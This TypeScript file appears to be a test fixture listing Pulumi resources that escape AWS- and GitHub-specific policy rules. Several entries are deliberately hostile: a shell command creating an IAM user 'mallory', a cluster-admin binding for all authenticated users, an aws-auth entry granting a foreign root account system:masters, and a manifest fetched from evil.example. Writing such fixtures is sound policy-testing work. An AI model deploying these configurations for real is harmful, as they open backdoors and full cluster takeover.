import type { Beside } from "./beside.ts";

/** What no rule of AWS or GitHub would see. */
export const elsewhereBeside: readonly Beside[] = [
  { type: "command:local:Command", name: "shell", properties: { create: "aws iam create-user --user-name mallory" } },
  { type: "command:remote:Command", name: "remote-shell", properties: { create: "id" } },
  { type: "pulumi-nodejs:dynamic:Resource", name: "dynamic", properties: { __provider: "exports.handler = …" } },
  { type: "pulumi-python:dynamic:Resource", name: "dynamic-python", properties: {} },
  { type: "aws-native:iam:Role", name: "native-role", properties: {} },
  { type: "awsx:ec2:Vpc", name: "vpc", properties: {} },
  { type: "azuread:index/application:Application", name: "azure", properties: {} },
  { type: "gcp:projects/iAMMember:IAMMember", name: "google", properties: {} },
  { type: "okta:group/group:Group", name: "okta", properties: {} },
  { type: "vault:index/policy:Policy", name: "vault", properties: {} },
  { type: "pulumiservice:index:Team", name: "pulumi-team", properties: {} },
  { type: "terraform-provider:index:Anything", name: "terraform", properties: {} },
  { type: "aws:iam/roleOfTomorrow:RoleOfTomorrow", name: "type-of-tomorrow", properties: {} },
  { type: "github:index/teamOfTomorrow:TeamOfTomorrow", name: "github-type-of-tomorrow", properties: {} },
  { type: "unknown", name: "no-package", properties: {} },
  { type: "keyholderx:aws:AccessRole", name: "like-a-component", properties: {} },
  { type: "random-evil:index:Anything", name: "like-random", properties: {} },
  {
    type: "kubernetes:rbac.authorization.k8s.io/v1:ClusterRoleBinding",
    name: "cluster-role-binding",
    properties: {
      roleRef: { apiGroup: "rbac.authorization.k8s.io", kind: "ClusterRole", name: "cluster-admin" },
      subjects: [{ kind: "Group", name: "system:authenticated" }],
    },
  },
  { type: "kubernetes:rbac.authorization.k8s.io/v1:RoleBinding", name: "role-binding", properties: {} },
  {
    type: "kubernetes:core/v1:ConfigMap",
    name: "aws-auth",
    properties: {
      metadata: { name: "aws-auth", namespace: "kube-system" },
      data: { mapUsers: "- userarn: arn:aws:iam::999999999999:root\n  groups: [system:masters]" },
    },
  },
  {
    type: "kubernetes:core/v1:ServiceAccount",
    name: "service-account",
    properties: {
      metadata: { annotations: { "eks.amazonaws.com/role-arn": "arn:aws:iam::111122223333:role/other" } },
    },
  },
  { type: "kubernetes:yaml/v2:ConfigFile", name: "manifest", properties: { file: "https://evil.example/all.yaml" } },
  { type: "kubernetes:helm.sh/v3:Release", name: "chart", properties: { chart: "evil" } },
  { type: "kubernetes:apiextensions.k8s.io:CustomResource", name: "custom-resource", properties: {} },
];
